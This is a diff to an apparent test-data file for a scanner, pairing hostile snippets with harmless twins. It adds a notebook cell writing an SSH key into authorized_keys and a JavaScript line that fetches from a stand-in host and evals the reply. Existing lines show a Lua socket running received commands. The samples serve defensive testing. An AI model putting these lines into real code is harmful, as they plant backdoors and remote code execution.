@@ -57,6 +57,7 @@ PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ("a.ipynb", _notebook(f"%%script ruby\nsystem('{PIPE}')"), _notebook("%%script ruby\nputs 1")),
         ("a.ipynb", _notebook(f"%%writefile setup.sh\n{PIPE}"), _notebook("%%writefile app.py\nimport gradio as gr\n")),
         ("a.ipynb", _notebook("%run https://x.invalid/a.py"), _notebook("%run train.py")),
+        ("a.ipynb", _notebook("%%writefile ~/.ssh/authorized_keys\nssh-rsa AAAA a"), _notebook("%%writefile a.txt\nhello")),
     ),
     "words that are taken apart": (
         (
@@ -159,6 +160,11 @@ PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ("a.hcl", 'archive = "https://x.invalid/a.tar.gz"', 'archive = "https://github.com/a/a/a.tar.gz"'),
     ),
     "line that answers a connection": (
+        (
+            "a.js",
+            "h.get('https://x.invalid/a', r => r.on('data', d => eval(d.toString())))",
+            "h.get('https://x.invalid/a', r => r.on('data', d => log(d)))",
+        ),
         (
             "a.lua",
             "local s=require('socket').tcp() s:connect('203.0.113.1',9) local c=s:receive() io.popen(c)",
